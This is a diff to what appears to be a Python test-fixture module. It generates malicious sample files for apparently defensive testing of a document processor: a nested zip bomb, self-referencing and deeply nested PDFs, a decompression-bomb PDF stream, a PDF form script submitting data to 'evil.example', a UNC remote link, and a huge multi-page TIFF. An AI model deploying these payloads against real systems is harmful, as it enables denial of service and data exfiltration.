@@ -107,3 +107,78 @@ def docx_file() -> bytes:
         archive.writestr("[Content_Types].xml", "<Types/>")
         archive.writestr("word/document.xml", "<document/>")
     return buffer.getvalue()
+
+
+def zip_bomb() -> bytes:
+    """A zip of zips: a few kilobytes that unpack to gigabytes."""
+    inner = io.BytesIO()
+    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        archive.writestr("zeros.bin", bytes(16 << 20))
+    outer = io.BytesIO()
+    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        for number in range(200):
+            archive.writestr(f"{number}.zip", inner.getvalue())
+    return outer.getvalue()
+
+
+def pdf_with_circular_pages() -> bytes:
+    """A page tree that contains itself."""
+    document = pdf(2)
+    document.Root.Pages.Kids.append(document.Root.Pages)
+    document.Root.Pages.Count = 1_000_000
+    return saved(document)
+
+
+def pdf_with_deep_nesting(depth: int = 20_000) -> bytes:
+    """Arrays in arrays, to break a reader that calls itself."""
+    content = saved(pdf(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
+    return content.replace(b"/Type /Catalog", b"/Type /Catalog /Odd " + b"[" * depth + b"]" * depth, 1)
+
+
+def pdf_with_filter_chain(rounds: int = 4) -> bytes:
+    """A page whose content is packed several times over: each unpacking is a thousand times larger."""
+    document = pdf()
+    packed = bytes(64 << 20)
+    for _ in range(rounds):
+        packed = zlib.compress(packed, 9)
+    stream = pikepdf.Stream(document, b"")
+    stream.write(packed, filter=pikepdf.Array([pikepdf.Name.FlateDecode] * rounds))
+    document.pages[0].obj.Contents = document.make_indirect(stream)
+    return saved(document, compress_streams=False)
+
+
+def pdf_with_form_script() -> bytes:
+    """An XFA form and a field that runs a script whenever it is touched."""
+    document = pdf()
+    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="this.submitForm('http://evil.example/')")
+    field = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T="name", V="x", Rect=[50, 50, 200, 80],
+        AA=pikepdf.Dictionary(K=action, F=action, V=action),
+    )  # fmt: skip
+    field = document.make_indirect(field)
+    document.pages[0].obj.Annots = pikepdf.Array([field])
+    xfa = document.make_indirect(pikepdf.Stream(document, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"))
+    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]), XFA=xfa)
+    return saved(document)
+
+
+def pdf_with_media() -> bytes:
+    """A film on a page, and a link to a file on another machine."""
+    document = pdf()
+    film = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 10, 10],
+        RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary()),
+    )  # fmt: skip
+    away = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10],
+        A=pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=r"\\server\share\x.pdf", D=pikepdf.Array([0, pikepdf.Name.Fit])),
+    )  # fmt: skip
+    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(film), document.make_indirect(away)])
+    return saved(document)
+
+
+def tiff_of_many_pages(pages: int = 1500) -> bytes:
+    buffer = io.BytesIO()
+    one = Image.new("1", (8, 8), 1)
+    one.save(buffer, "TIFF", save_all=True, append_images=[one] * (pages - 1))
+    return buffer.getvalue()
